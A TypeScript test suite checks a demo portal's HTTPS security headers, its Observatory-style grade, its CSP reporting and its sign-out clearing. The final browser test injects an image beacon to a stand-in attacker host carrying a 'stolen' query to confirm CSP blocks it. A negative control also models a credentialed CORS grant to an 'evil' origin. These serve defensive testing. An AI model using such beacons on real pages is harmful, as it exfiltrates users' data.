/** The portal over HTTPS as those see it who grade it from outside: MDN's HTTP Observatory, csp_evaluator, and a browser. */
import { createHash, X509Certificate } from 'node:crypto'
import { writeFileSync } from 'node:fs'
import http from 'node:http'
import https from 'node:https'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { CspEvaluator } from 'csp_evaluator'
import { CspParser } from 'csp_evaluator/dist/parser.js'
import Fastify from 'fastify'
import helmet from '@fastify/helmet'
import t from 'tap'
import { buildPortal } from '../../demo/app.js'
import { seed } from '../../demo/data/seed.js'
import type { PortalSettings } from '../../demo/settings.js'
import type { SecurityEvent } from '../../plugins/events.js'
import { browsing } from '../fixtures/chromium.js'
import { gradeOf, type Site } from '../fixtures/observatory.js'
import { chromium } from '../services.js'
import { selfSigned } from '../wire/certificate.js'
import { APP_SECRET, folderOf, freshDatabase, PASSWORD } from './portal.js'

t.setTimeout(600_000)
const HOST = 'portal.test'
const ORIGIN = `https://${HOST}`
const certificate = selfSigned([HOST])

interface Seen { status: number, headers: Record<string, string | string[] | undefined>, body: string }

const folder = folderOf(t)
for (const [name, text] of Object.entries(certificate)) writeFileSync(join(folder, `${name}.pem`), text, { mode: 0o600 })
const sql = await freshDatabase(t)
const settings = {
  HOST: '127.0.0.1', PORT: 443, NODE_ENV: 'production', DATA_DIR: folder, JWT_ALGORITHM: 'HS256', PASSWORD_POLICY: 'composition', REGISTRATION: 'open', LOG_LEVEL: 'silent', MAIL_FROM: 'portal@localhost', REDIRECT_PORT: 0,
} as PortalSettings
const app = await buildPortal({
  settings, secret: APP_SECRET, sql, origin: ORIGIN, tls: { cert: join(folder, 'cert.pem'), key: join(folder, 'key.pem') }, mail: async () => {}, overload: { maxEventLoopDelay: 60_000 },
})
t.teardown(() => app.close())
await app.ready()
await seed(sql, app, PASSWORD)
await app.listen({ host: '127.0.0.1', port: 0 })
const { port } = app.server.address() as AddressInfo
const { port: plainPort } = app.plainServer!.address() as AddressInfo
const reported: SecurityEvent[] = []
app.events.listen(event => { if (event.type === 'violation_reported') reported.push(event) })

/** Over the wire, as a client that knows the certificate. */
async function ask (method: string, path: string, { body, ...headers }: Record<string, string> = {}): Promise<Seen> {
  return new Promise((resolve, reject) => {
    const sent = { host: HOST, ...body !== undefined && { 'content-type': 'application/json', 'content-length': String(Buffer.byteLength(body)) }, ...headers }
    const options = { host: '127.0.0.1', port, servername: HOST, ca: certificate.cert, method, path, agent: false as const, headers: sent }
    https.request(options, response => read(response, resolve)).on('error', reject).end(body)
  })
}

async function askPlain (path: string): Promise<Seen> {
  return new Promise((resolve, reject) => {
    http.get({ host: '127.0.0.1', port: plainPort, path, agent: false, headers: { host: HOST } }, response => read(response, resolve)).on('error', reject)
  })
}

function read (response: http.IncomingMessage, resolve: (seen: Seen) => void): void {
  let body = ''
  response.setEncoding('utf8').on('data', chunk => { body += chunk }).on('end', () => resolve({ status: response.statusCode!, headers: response.headers, body }))
}

/** What the Observatory looks at. */
async function siteOf (path: string, more: Record<string, string> = {}, method = 'GET'): Promise<Site & { status: number }> {
  const origin = 'https://observatory.example'
  const [secure, plain, cors] = [await ask(method, path, more), await askPlain(path), await ask(method, path, { ...more, origin })]
  return { host: HOST, status: secure.status, secure, redirect: String(plain.headers.location ?? ''), cors: { origin, headers: cors.headers } }
}

const credentials = JSON.stringify({ username: 'alice', password: PASSWORD })

t.test('the page is graded A+ by the rules of MDN\'s HTTP Observatory [ASVS 3.4.1] [ASVS 3.4.3] [ASVS 3.6.1]', async t => {
  const site = await siteOf('/')
  const { grade, score, results } = gradeOf(site)
  t.comment(`${grade}, ${score} points`)
  t.strictSame({ status: site.status, grade, score }, { status: 200, grade: 'A+', score: 135 })
  t.strictSame(results, {
    'content-security-policy': ['no-unsafe-default-src-none', 10],
    cookies: ['not-found', 0],
    'cross-origin-resource-sharing': ['not-implemented', 0],
    redirection: ['to-https', 0],
    'referrer-policy': ['private', 5],
    'strict-transport-security': ['max-age-at-least-six-months', 0],
    'subresource-integrity': ['implemented-and-all-scripts-loaded-securely', 5],
    'x-content-type-options': ['nosniff', 0],
    'x-frame-options': ['implemented-via-csp', 5],
    'cross-origin-resource-policy': ['same-origin', 10],
    'cross-origin-opener-policy': ['same-origin', 0],
    'cross-origin-embedder-policy': ['require-corp', 0],
  })
  const integrity = / src="\/web\/portal\.js" integrity="(sha384-[^"]+)"/.exec(site.secure.body)?.[1]
  t.equal(integrity, `sha384-${createHash('sha384').update((await ask('GET', '/web/portal.js')).body).digest('base64')}`)
})

t.test('so are the script, the answers of the API, and what it refuses', async t => {
  const asked: [number, string, Record<string, string>, string?][] = [
    [200, '/web/portal.js', {}], [200, '/health', {}], [200, '/posts', {}], [200, '/csrf-token', {}], [401, '/users/me', {}], [404, '/nowhere', {}], [400, '/%zz', {}], [404, '/docs', {}],
    [200, '/session/login', { body: credentials, 'sec-fetch-site': 'same-origin' }, 'POST'], [401, '/auth/login', { body: credentials.replace('alice', 'nobody') }, 'POST'],
  ]
  for (const [status, path, more, method] of asked) {
    const site = await siteOf(path, more, method)
    // What only plain HTTP is asked: nothing but navigations are redirected, and health is answered there too.
    const { grade, score, results } = gradeOf({ ...site, redirect: null })
    t.strictSame([site.status, grade], [status, 'A+'], `${path}: ${score}`)
    t.ok(score >= 130, `${path}: ${score}`)
    if (site.secure.headers['set-cookie'] !== undefined) t.equal(results.cookies![0], 'secure-with-httponly-sessions-and-samesite')
    for (const name of ['server', 'x-powered-by']) t.equal(site.secure.headers[name], undefined)
  }
})

t.test('negative control: with any of it away the points are fewer, and others are graded as they deserve', async t => {
  const site = await siteOf('/')
  const without = (name: string, value?: string): Site => ({ ...site, secure: { ...site.secure, headers: { ...site.secure.headers, [name]: value } } })
  const policy = String(site.secure.headers['content-security-policy'])
  for (const [what, changed, score] of [
    ['no policy', without('content-security-policy'), 75], ['code by anybody', without('content-security-policy', "script-src 'unsafe-inline'"), 80],
    ['styles by anybody', without('content-security-policy', policy.replace(/'nonce-[^']+'(?=;img)/, "'unsafe-inline'")), 125],
    ['no HSTS', without('strict-transport-security'), 80], ['HSTS of a day', without('strict-transport-security', 'max-age=86400'), 125], ['no nosniff', without('x-content-type-options'), 130],
    ['no referrer policy', without('referrer-policy'), 130], ['any site may embed it', without('cross-origin-resource-policy', 'cross-origin'), 125], ['no redirect', { ...site, redirect: '' }, 80],
    ['a session in clear', { ...without('strict-transport-security'), secure: { ...site.secure, headers: { ...without('strict-transport-security').secure.headers, 'set-cookie': 'session=1' } } }, 40],
    ['a foreign script', { ...site, secure: { ...site.secure, body: '<script src="https://cdn.example/x.js"></script>' } }, 125],
    ['any origin, with credentials', { ...site, cors: { origin: 'https://evil.example', headers: { 'access-control-allow-origin': 'https://evil.example', 'access-control-allow-credentials': 'true' } } }, 50],
  ] as [string, Site, number][]) t.equal(gradeOf(changed).score, score, what)

  const plain = Fastify()
  const helmets = Fastify()
  t.teardown(() => Promise.all([plain.close(), helmets.close()]))
  await helmets.register(helmet)
  const grades: Record<string, string> = {}
  for (const [name, other] of Object.entries({ plain, helmets })) {
    other.get('/', async (_request, reply) => reply.type('text/html').send('<script src="/a.js"></script>'))
    const { headers, body } = await other.inject('/')
    grades[name] = gradeOf({ ...site, secure: { headers: headers as Seen['headers'], body }, redirect: '' }).grade
  }
  t.strictSame(grades, { plain: 'F', helmets: 'B+' }, 'a plain Fastify, and @fastify/helmet as its documentation shows it')
})

t.test('csp_evaluator finds nothing in any policy that the portal sends; all say where to report [ASVS 3.4.7]', async t => {
  for (const path of ['/', '/web/portal.js', '/health', '/users/me', '/nowhere', '/%zz']) {
    const { headers } = await ask('GET', path)
    const policy = String(headers['content-security-policy'])
    t.strictSame(new CspEvaluator(new CspParser(policy).csp).evaluate(), [], path)
    t.match(policy, /;report-uri \/reports\/csp;report-to csp$/)
    t.equal(headers['reporting-endpoints'], 'csp="/reports/csp"')
  }
})

t.test('sign-outs and the erasure of an account have the browser forget; what is refused does not [ASVS 14.3.1]', async t => {
  const login = async () => {
    const { headers, body } = await ask('POST', '/session/login', { body: credentials, 'sec-fetch-site': 'same-origin' })
    return { cookie: ([headers['set-cookie']].flat() as string[]).map(line => line.split(';')[0]).join('; '), 'x-csrf-token': JSON.parse(body).csrfToken as string }
  }
  const bearer = async (username = 'alice') => ({ authorization: `Bearer ${JSON.parse((await ask('POST', '/auth/login', { body: credentials.replace('alice', username) })).body).access_token}` })
  const told = async (method: string, path: string, headers: Record<string, string>) => {
    const { status, headers: answered } = await ask(method, path, headers)
    return [status, answered['clear-site-data']]
  }
  const FORGET = '"cookies", "storage"'
  const session = await login()
  t.strictSame(await told('POST', '/session/logout', { ...session, 'sec-fetch-site': 'cross-site' }), [403, undefined], 'another site cannot have it done')
  t.strictSame(await told('POST', '/session/logout', { ...session, 'sec-fetch-site': 'same-origin' }), [204, FORGET])
  t.strictSame(await told('POST', '/session/logout', { ...session, 'sec-fetch-site': 'same-origin' }), [401, undefined])
  t.strictSame(await told('POST', '/auth/logout', await bearer()), [204, FORGET])
  t.strictSame(await told('POST', '/auth/logout', {}), [401, undefined])
  t.strictSame(await told('POST', '/auth/logout-all', await bearer()), [204, FORGET])
  t.strictSame(await told('DELETE', '/users/me', {}), [401, undefined])
  t.strictSame(await told('DELETE', '/users/me', await bearer('gus')), [204, FORGET])
  t.strictSame(await told('GET', '/users/me', await bearer()), [200, undefined])
})

const executable = chromium(t)
if (executable !== null) {
  t.test('a browser does what the headers say: isolates the page, stops and reports what is injected, and forgets [ASVS 3.4.7] [ASVS 14.3.1]', async t => {
    const pin = createHash('sha256').update(new X509Certificate(certificate.cert).publicKey.export({ type: 'spki', format: 'der' })).digest('base64')
    const { person, faults, ignore } = await browsing(t, executable, { [`${HOST}:443`]: `127.0.0.1:${port}` }, [`--ignore-certificate-errors-spki-list=${pin}`, '--short-reporting-delay'])
    const context = await person()
    const page = await context.newPage()
    await page.goto(ORIGIN)
    t.strictSame(await page.evaluate('[crossOriginIsolated, originAgentCluster, isSecureContext]'), [true, true, true])

    await page.getByLabel('Name', { exact: true }).first().fill('bob')
    await page.getByLabel('Password').first().fill(PASSWORD)
    await page.keyboard.press('Enter')
    await page.getByRole('heading', { name: 'Your profile' }).waitFor()
    t.strictSame((await context.cookies()).map(({ name, secure, httpOnly }) => [name, secure, httpOnly]).sort(), [['__Host-csrf', true, true], ['__Host-session', true, true]])
    await page.evaluate("localStorage.setItem('kept', 'what was read')")
    await page.getByRole('button', { name: 'Sign out' }).click()
    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
    t.strictSame(await context.cookies(), [], 'no cookie is left')
    t.equal(await page.evaluate("localStorage.getItem('kept')"), null, 'nor what pages kept')
    t.strictSame(faults, [], 'and nothing of the page was in the way of the policy')

    ignore(page)
    await page.evaluate("const image = document.createElement('img'); image.src = 'https://evil.example/pixel?stolen=everything'; document.body.append(image)")
    for (const deadline = Date.now() + 60_000; reported.length === 0 && Date.now() < deadline;) await new Promise(resolve => { setTimeout(resolve, 50) })
    t.match(reported, [{ route: '/reports/csp', details: { document: '/', directive: 'img-src', blocked: 'https://evil.example', disposition: 'enforce', times: 1 } }])
    t.notMatch(JSON.stringify(reported), /stolen/)
  })
}
